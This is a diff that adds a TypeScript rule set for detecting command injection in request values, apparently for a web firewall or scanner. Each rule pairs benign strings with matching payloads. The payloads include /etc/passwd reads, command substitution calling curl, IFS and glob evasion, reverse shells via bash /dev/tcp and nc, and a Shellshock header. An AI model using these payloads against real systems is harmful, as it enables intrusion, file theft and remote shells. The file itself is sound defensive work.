@@ -1,0 +1,80 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the examples are payloads
+/** Command injection: what detect/shell.ts signals. */
+import { type Rule, VALUES } from '../rule.ts';
+
+export const COMMAND_RULES: readonly Rule[] = [
+  {
+    id: 'shell-separator',
+    title: 'A command after a separator',
+    class: 'command',
+    where: VALUES,
+    severity: 'critical',
+    paranoia: 1,
+    match: [
+      'query:host 127.0.0.1; cat /etc/passwd',
+      'query:host x|id',
+      'query:host x && whoami',
+      'query:h a␊ls -la',
+    ],
+    pass: [
+      'query:q salt & pepper',
+      'form:t a < b && c > d',
+      'query:fields name|id|date',
+      'form:t First run `npm install && npm start`',
+    ],
+  },
+  {
+    id: 'shell-substitution',
+    title: 'A command substituted into a text',
+    class: 'command',
+    where: VALUES,
+    severity: 'critical',
+    paranoia: 1,
+    match: ['query:h $(whoami)', 'query:h `id`', 'query:h x$(curl http://x.example)'],
+    pass: ['json:code $(document).ready(f)', 'form:t Use the `id` column', 'form:price $(5)'],
+  },
+  {
+    id: 'shell-command',
+    title: 'A command as a value',
+    class: 'command',
+    where: VALUES,
+    severity: 'critical',
+    paranoia: 1,
+    match: ['query:cmd whoami', 'form:x /bin/cat /etc/passwd', 'form:x powershell -enc AAAA'],
+    pass: ['query:q who am i', 'json:command ls -la', 'query:q cat pictures'],
+  },
+  {
+    id: 'shell-ifs',
+    title: "Spellings that only a shell's evader uses",
+    class: 'command',
+    where: VALUES,
+    severity: 'critical',
+    paranoia: 1,
+    match: [
+      'query:h ;cat${IFS}/etc/passwd',
+      'query:h {cat,/etc/passwd}',
+      'query:h /???/c?t /???/p?sswd',
+    ],
+    pass: ['query:q what??', 'json:t {cats,dogs}'],
+  },
+  {
+    id: 'shell-reverse',
+    title: 'A shell handed to another host',
+    class: 'command',
+    where: VALUES,
+    severity: 'critical',
+    paranoia: 1,
+    match: ['form:x bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'form:x nc -e /bin/sh 10.0.0.1 4444'],
+    pass: ['form:t the nc command listens'],
+  },
+  {
+    id: 'shell-shock',
+    title: 'A function definition that bash would run',
+    class: 'command',
+    where: VALUES,
+    severity: 'critical',
+    paranoia: 1,
+    match: ['header:user-agent () { :;}; /bin/bash -c id'],
+    pass: ['form:code function f() { return 1; }'],
+  },
+];
